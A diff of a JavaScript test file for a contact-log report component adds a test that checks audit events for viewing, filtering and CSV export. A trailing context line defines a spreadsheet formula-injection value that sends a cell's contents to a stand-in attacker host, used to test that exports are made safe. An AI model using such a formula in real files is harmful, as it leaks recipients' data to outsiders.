@@ -272,6 +272,41 @@ describe('<contact-log-report>', () => {
     expect(served.path).to.contain('/contact-logs/export').and.contain('subtype=red').and.contain('format=csv');
   });
 
+  it('records each opening, filter and export of the report as an audit event with the filters used', async () => {
+    const mock = await useMock({});
+    const element = await mount(restAdapter(), 'subtype:red', 10);
+    await ready(element);
+    button(element, 'Next page').click();
+    await until(() => caption(element).startsWith('Contact logs 11'), 'the second page');
+    await filterBy(element, 'subtype:arrivals');
+    await ready(element);
+    button(element, 'Export CSV').click();
+    await until(() => deepText(element).includes('Exported'), 'the export');
+    const events = mock.backend.data.auditEvents.map((e) => [e.action, e.actor.id, e.metadata]);
+    expect(events, 'a next page is not another view').to.deep.equal([
+      [
+        'report.viewed',
+        CORE_STAFF.admin.id,
+        { report: 'contact-logs', filters: { subtype: 'red', sort: 'at', direction: 'desc' } },
+      ],
+      [
+        'report.viewed',
+        CORE_STAFF.admin.id,
+        { report: 'contact-logs', filters: { subtype: 'arrivals', sort: 'at', direction: 'desc' } },
+      ],
+      [
+        'report.exported',
+        CORE_STAFF.admin.id,
+        {
+          report: 'contact-logs',
+          filters: { subtype: 'arrivals', sort: 'at', direction: 'desc' },
+          format: 'csv',
+          rows: mock.backend.data.contactLogs.filter((l) => l.subtype === 'arrivals').length,
+        },
+      ],
+    ]);
+  });
+
   it('exports with masking for a masked viewer and cells safe to open in a spreadsheet', async () => {
     const mock = await useMock({ viewer: 'duty-manager' });
     const formula = '=HYPERLINK("http://evil.example/?"&A2,"Click")';
